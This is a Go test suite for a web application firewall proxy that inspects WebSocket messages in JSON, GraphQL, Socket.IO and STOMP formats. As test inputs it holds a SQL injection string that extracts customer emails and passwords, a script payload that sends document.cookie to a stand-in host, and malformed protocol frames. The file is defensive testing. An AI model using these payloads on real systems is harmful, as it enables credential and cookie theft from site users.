package proxy_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/gobwas/ws"

	"github.com/ordergate/ordergate/proxy/proxytest"
	"github.com/ordergate/ordergate/rules"
)

// hears is a platform that answers every message with the next number and tells what it
// heard.
func hears(heard chan<- string) http.Handler {
	return talk(func(conn net.Conn) {
		defer close(heard)
		for n := 1; ; n++ {
			var text []byte
			for whole := false; !whole; {
				header, payload, err := frame(conn)
				if err != nil || header.OpCode == ws.OpClose {
					quit(conn)
					return
				}
				ws.Cipher(payload, header.Mask, 0)
				if header.OpCode.IsControl() {
					continue
				}
				text, whole = append(text, payload...), header.Fin
			}
			heard <- string(text)
			say(conn, fmt.Sprintf(`{"n":%d}`, n))
		}
	})
}

// masked is a client's frame.
func masked(op ws.OpCode, last bool, text string) []byte {
	f := ws.MaskFrame(ws.NewFrame(op, last, []byte(text)))
	return ws.MustCompileFrame(f)
}

// tell opens a WebSocket, says frames, and returns what the platform heard and how the
// connection ended.
func tell(t *testing.T, frames []byte, change ...func(*proxytest.Setup)) (heard []string, code ws.StatusCode, s *proxytest.World) {
	t.Helper()
	said := make(chan string, 64)
	w := proxytest.Start(t, hears(said), change...)
	conn, reader, response := upgrade(t, w)
	if response.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("%d", response.StatusCode)
	}
	go func() { _, _ = conn.Write(append(frames, masked(ws.OpClose, true, "\x03\xe8")...)) }()
	for {
		header, payload, err := frame(reader)
		if err != nil {
			break
		}
		if header.OpCode == ws.OpClose {
			code, _ = ws.ParseCloseFrameData(payload)
			break
		}
	}
	_ = conn.Close()
	for text := range said {
		heard = append(heard, text)
	}
	return heard, code, w
}

// TestSocketSayings: what the WAF would refuse as a request's body is refused as a
// message, in whatever protocol; its innocent twin comes to the platform as it was said.
func TestSocketSayings(t *testing.T) {
	injection := "1' UNION SELECT email,password FROM customers-- -"
	for name, c := range map[string]struct {
		says  []string
		heard int
		code  ws.StatusCode
	}{
		"an order asked for":          {[]string{`{"get":"order","id":"1001"}`, `{"get":"order","id":"1002"}`}, 2, ws.StatusNormalClosure},
		"an injection":                {[]string{`{"get":"order","id":"1001"}`, `{"get":"order","id":"` + injection + `"}`, `{"get":"stock"}`}, 1, ws.StatusPolicyViolation},
		"GraphQL":                     {[]string{`{"id":"1","type":"subscribe","payload":{"query":"subscription { orderUpdated(number: 1001) { status } }"}}`}, 1, ws.StatusNormalClosure},
		"an injection in GraphQL":     {[]string{`{"id":"1","type":"subscribe","payload":{"variables":{"number":"` + injection + `"}}}`}, 0, ws.StatusPolicyViolation},
		"Socket.IO":                   {[]string{"2probe", "5", `42["order",{"id":"1001"}]`}, 3, ws.StatusNormalClosure},
		"an injection in Socket.IO":   {[]string{`42/orders,7["order",{"id":"` + injection + `"}]`}, 0, ws.StatusPolicyViolation},
		"STOMP":                       {[]string{"SEND\ndestination:/app/orders\n\n{\"id\":1001}\x00"}, 1, ws.StatusNormalClosure},
		"an injection in STOMP":       {[]string{"SEND\ndestination:/app/orders\n\n{\"id\":\"" + injection + "\"}\x00"}, 0, ws.StatusPolicyViolation},
		"words":                       {[]string{"Where is my parcel? It should have come on Monday."}, 1, ws.StatusNormalClosure},
		"a script in words":           {[]string{`<script>fetch("//x.example/"+document.cookie)</script>`}, 0, ws.StatusPolicyViolation},
		"nearly JSON":                 {[]string{`{"id":"` + injection}, 0, ws.StatusPolicyViolation},
		"empty ones":                  {[]string{"", "{}", "[]", ""}, 4, ws.StatusNormalClosure},
		"no text":                     {[]string{"\xff\xfe\x01' UNION SELECT"}, 1, ws.StatusNormalClosure},
		"one longer than a body":      {[]string{strings.Repeat("x", 70_000)}, 0, ws.StatusMessageTooBig},
		"one nearly as long, at once": {[]string{strings.Repeat("x", 60_000)}, 1, ws.StatusNormalClosure},
	} {
		for _, size := range []int{1 << 20, 9} {
			if size < 100 && len(strings.Join(c.says, "")) > 10_000 {
				continue
			}
			t.Run(fmt.Sprintf("%s in frames of %d", name, size), func(t *testing.T) {
				var frames bytes.Buffer
				for _, text := range c.says {
					op, rest := ws.OpText, text
					for len(rest) > size {
						frames.Write(masked(op, false, rest[:size]))
						frames.Write(masked(ws.OpPing, true, "?"))
						op, rest = ws.OpContinuation, rest[size:]
					}
					frames.Write(masked(op, true, rest))
				}
				heard, code, w := tell(t, frames.Bytes(), func(s *proxytest.Setup) { s.Policy.RequestBody = 65_000 })
				if len(heard) != c.heard || strings.Join(heard, "") != strings.Join(c.says[:c.heard], "") || code != c.code {
					t.Errorf("the platform heard %q, want %d; it ended with %d, want %d", heard, c.heard, code, c.code)
				}
				s := w.Observer.Next()
				want := map[ws.StatusCode]rules.Reason{ws.StatusNormalClosure: rules.ReasonNone, ws.StatusPolicyViolation: rules.ReasonWAF, ws.StatusMessageTooBig: rules.ReasonTooLarge}[c.code]
				if s.Reason != want || (s.WAF.Blocked != 0) != (want == rules.ReasonWAF) {
					t.Errorf("told as %q, rule %d", s.Reason, s.WAF.Blocked)
				}
			})
		}
	}
}

// TestSocketSayingsObserved: in observe mode an attack goes on, and is told.
func TestSocketSayingsObserved(t *testing.T) {
	attack := `{"id":"1' UNION SELECT email,password FROM customers-- -"}`
	heard, code, w := tell(t, masked(ws.OpText, true, attack), func(s *proxytest.Setup) { s.Policy.Mode = rules.Observe })
	if len(heard) != 1 || heard[0] != attack || code != ws.StatusNormalClosure {
		t.Errorf("%q, end %d", heard, code)
	}
	if s := w.Observer.Next(); len(s.WAF.Hits) == 0 || s.WAF.Inbound < 5 {
		t.Errorf("%+v", s.WAF)
	}
}

// TestSocketMisspoken: frames that RFC 6455 does not allow a client end the connection,
// and nothing of them comes to the platform.
func TestSocketMisspoken(t *testing.T) {
	for name, frames := range map[string]string{
		"unmasked":                "\x81\x01{",
		"a reserved bit":          "\xc1\x81\x00\x00\x00\x00{",
		"a reserved kind":         "\x83\x81\x00\x00\x00\x00{",
		"goes on without a begin": "\x80\x81\x00\x00\x00\x00{",
		"begins inside another":   "\x01\x81\x00\x00\x00\x00{\x81\x81\x00\x00\x00\x00{",
		"a ping in fragments":     "\x09\x81\x00\x00\x00\x00{",
		"a long ping":             "\x89\xfe\x00\x7e\x00\x00\x00\x00" + strings.Repeat("x", 126),
		"a length below nought":   "\x81\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00\x00\x00",
	} {
		heard, code, w := tell(t, []byte(frames))
		if len(heard) > 0 || code != ws.StatusProtocolError {
			t.Errorf("%s: %q, end %d", name, heard, code)
		}
		if s := w.Observer.Next(); s.Reason != rules.ReasonMalformed {
			t.Errorf("%s: %q", name, s.Reason)
		}
	}
}

// TestSocketSayingsBare: what scores in a handshake, a number for a host and no user
// agent, as programs have it, is not held against each message.
func TestSocketSayingsBare(t *testing.T) {
	said := make(chan string, 1)
	w := proxytest.Start(t, hears(said))
	conn := dial(t, w)
	_, _ = io.WriteString(conn, "GET /ws HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"+opening+"\r\n")
	reader := bufio.NewReader(conn)
	if response, err := http.ReadResponse(reader, nil); err != nil || response.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("%v %v", response, err)
	}
	_, _ = conn.Write(masked(ws.OpText, true, `{"sku":"KB-1"}`))
	if heard := <-said; heard != `{"sku":"KB-1"}` {
		t.Errorf("the platform heard %q", heard)
	}
	if header, _, err := frame(reader); err != nil || header.OpCode != ws.OpText {
		t.Errorf("%+v, %v", header, err)
	}
}
